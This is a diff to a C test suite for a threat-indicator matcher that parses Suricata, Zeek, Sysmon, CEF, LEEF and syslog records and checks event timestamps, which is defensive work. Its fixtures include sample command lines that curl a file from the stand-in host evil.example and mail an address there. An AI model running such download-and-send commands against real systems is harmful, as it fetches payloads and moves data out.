@@ -17,36 +17,35 @@ static void test_formats(void)
 {
 	static const struct {
 		const char *name, *line, *want, *where;
-		usec at;
 	} rows[] = {
 		{ "Suricata EVE, DNS",
 		  "{\"timestamp\":\"2026-11-22T08:00:00.500000+0800\",\"event_type\":\"dns\",\"src_ip\":\"10.0.0.5\",\"dest_ip\":\"198.51.100.1\","
 		  "\"host\":\"fw1\",\"dns\":{\"rrname\":\"Evil.Example\"}}",
-		  "ipv4=10.0.0.5@src_ip ipv4=198.51.100.1@dest_ip domain=evil.example@dns.rrname", "fw1", 1795305600500000 },
+		  "ipv4=10.0.0.5@src_ip ipv4=198.51.100.1@dest_ip domain=evil.example@dns.rrname", "fw1" },
 		{ "Suricata EVE, HTTP: host and path are one URL",
 		  "{\"timestamp\":\"2026-11-22T00:00:00.000000+0000\",\"http\":{\"hostname\":\"evil.example\",\"url\":\"/a?b=1\"}}",
-		  "url=http://evil.example/a?b=1@http.url domain=evil.example@http.hostname", "", 1795305600000000 },
+		  "url=http://evil.example/a?b=1@http.url domain=evil.example@http.hostname", "" },
 		{ "Zeek conn", "{\"ts\":1795305600.25,\"id.orig_h\":\"2001:db8::5\",\"id.resp_h\":\"203.0.113.9\",\"proto\":\"tcp\"}",
-		  "ipv6=2001:db8::5@id.orig_h ipv4=203.0.113.9@id.resp_h", "2001:db8::5", 1795305600250000 },
+		  "ipv6=2001:db8::5@id.orig_h ipv4=203.0.113.9@id.resp_h", "2001:db8::5" },
 		{ "Zeek http", "{\"ts\":1795305600,\"host\":\"evil.example\",\"uri\":\"/x\"}",
-		  "url=http://evil.example/x@uri domain=evil.example@host", "evil.example", 1795305600000000 },
+		  "url=http://evil.example/x@uri domain=evil.example@host", "evil.example" },
 		{ "Sysmon as Winlogbeat writes it",
 		  "{\"@timestamp\":\"2026-11-22T00:00:00.000Z\",\"host\":{\"name\":\"pc7\"},\"winlog\":{\"event_data\":{\"Hashes\":"
 		  "\"MD5=D41D8CD98F00B204E9800998ECF8427E,SHA1=DA39A3EE5E6B4B0D3255BFEF95601890AFD80709\"}}}",
 		  "md5=d41d8cd98f00b204e9800998ecf8427e@winlog.event_data.Hashes "
 		  "sha1=da39a3ee5e6b4b0d3255bfef95601890afd80709@winlog.event_data.Hashes",
-		  "pc7", 1795305600000000 },
+		  "pc7" },
 		{ "an address with its port, in an array", "{\"peers\":[\"198.51.100.7:443\",\"[2001:db8::9]:53\"]}",
-		  "ipv4=198.51.100.7@peers.0 ipv6=2001:db8::9@peers.1", "", 0 },
+		  "ipv4=198.51.100.7@peers.0 ipv6=2001:db8::9@peers.1", "" },
 		{ "inside a command line", "{\"CommandLine\":\"curl -o x http://evil.example/p.bin && mail a@evil.example\"}",
-		  "url=http://evil.example/p.bin@CommandLine email=a@evil.example@CommandLine", "", 0 },
+		  "url=http://evil.example/p.bin@CommandLine email=a@evil.example@CommandLine", "" },
 		{ "a URL with a query, in text", "{\"cmd\":\"curl 'http://evil.example/p?a=1,2&b=(3)' -o x\"}",
-		  "url=http://evil.example/p?a@cmd url=http://evil.example/p?a=1,2&b=(3)@cmd", "", 0 },
+		  "url=http://evil.example/p?a@cmd url=http://evil.example/p?a=1,2&b=(3)@cmd", "" },
 		{ "the field, not the message that repeats it", "{\"Message\":\"Source: 10.0.0.5 Dest: 198.51.100.7\",\"DestinationIp\":\"198.51.100.7\"}",
-		  "ipv4=10.0.0.5@Message ipv4=198.51.100.7@DestinationIp", "", 0 },
+		  "ipv4=10.0.0.5@Message ipv4=198.51.100.7@DestinationIp", "" },
 		{ "an IPv4 peer of a dual-stack socket", "{\"IpAddress\":\"::ffff:198.51.100.7\",\"b\":\"::FFFF:c633:6408\"}",
-		  "ipv4=198.51.100.7@IpAddress ipv4=198.51.100.8@b", "", 0 },
-		{ "nothing to see", "{\"a\":1,\"b\":\"hello\",\"c\":null,\"d\":[true,{}]}", "", "", 0 },
+		  "ipv4=198.51.100.7@IpAddress ipv4=198.51.100.8@b", "" },
+		{ "nothing to see", "{\"a\":1,\"b\":\"hello\",\"c\":null,\"d\":[true,{}]}", "", "" },
 	};
 	struct arena *a = arena_new((size_t)64 << 20);
 
@@ -60,10 +59,57 @@ static void test_formats(void)
 		describe(&e, &got);
 		EQ_STR(buf_view(&got), str_of(rows[i].want), rows[i].name);
 		EQ_STR(e.where, str_of(rows[i].where), "  where");
-		EQ_INT(e.at, rows[i].at, "  when");
 		buf_done(&got);
 	}
 	arena_free(a);
+}
+
+static void note_time(void *ctx, const struct hit *h)
+{
+	usec *at = ctx;
+
+	*at = h->at;
+}
+
+/* A hit is dated by its event whatever the format; by the clock only when the event tells no time. */
+static void test_times(void)
+{
+	static const struct {
+		const char *name, *line;
+		usec at;
+	} rows[] = {
+		{ "Suricata EVE, with its zone", "{\"timestamp\":\"2026-11-22T08:00:00.500000+0800\",\"d\":\"evil.example\"}", 1795305600500000 },
+		{ "Zeek's JSON", "{\"ts\":1795305600.25,\"host\":\"evil.example\"}", 1795305600250000 },
+		{ "Sysmon: when it happened, not when it was sent",
+		  "{\"@timestamp\":\"2026-11-22T00:00:09Z\",\"winlog\":{\"event_data\":{\"UtcTime\":\"2026-11-22 00:00:00.125\",\"QueryName\":\"evil.example\"}}}",
+		  1795305600125000 },
+		{ "a record of Windows as JSON",
+		  "{\"Event\":{\"System\":{\"TimeCreated\":{\"#attributes\":{\"SystemTime\":\"2026-11-22T00:00:00.5Z\"}}},\"EventData\":{\"d\":\"evil.example\"}}}",
+		  1795305600500000 },
+		{ "CEF: rt", "CEF:0|V|Box|1|7|n|5|rt=1795305600125 dhost=evil.example", 1795305600125000 },
+		{ "LEEF: devTime", "LEEF:1.0|V|Box|1|7|devTime=1795305600125\tdst=192.0.2.1\tdhost=evil.example", 1795305600125000 },
+		{ "key=value: date and time", "date=2026-11-22 time=08:00:00 tz=\"+0800\" devname=fw1 hostname=evil.example action=deny", 1795305600000000 },
+		{ "syslog", "<34>1 2026-11-22T00:00:00.25Z fw1 dns - - - query evil.example", 1795305600250000 },
+		{ "none", "{\"d\":\"evil.example\"}", 1800000000000000 },
+		{ "none in CEF", "CEF:0|V|Box|1|7|n|5|dhost=evil.example", 1800000000000000 },
+	};
+	struct image *m = image_new(1000);
+	struct image_indicator ind = { .id = S("indicator--00000000-0000-4000-8000-000000000001"),
+				       .pattern = S("[domain-name:value = 'evil.example']"), .valid_from = INT64_MIN };
+
+	OK(image_update(m, &ind, NULL) == RC_OK, "an image");
+	time_fake_set(1800000000000000);
+	for (size_t i = 0; i < COUNTOF(rows); i++) {
+		struct watch *w = NULL;
+		usec at = 0;
+
+		OK(watch_new(m, S("t"), note_time, &at, &w, NULL) == RC_OK && watch_message(w, S(""), LOG_UNKNOWN, str_of(rows[i].line), NULL) == RC_OK,
+		   "%s", rows[i].name);
+		EQ_INT(at, rows[i].at, "  the hit's time");
+		watch_free(w);
+	}
+	time_fake_off();
+	image_free(m);
 }
 
 static void note_any(void *ctx, const struct hit *h)
@@ -331,6 +377,7 @@ static void test_no_memory(void)
 int main(void)
 {
 	test_formats();
+	test_times();
 	test_together();
 	test_pieces();
 	test_long_line();
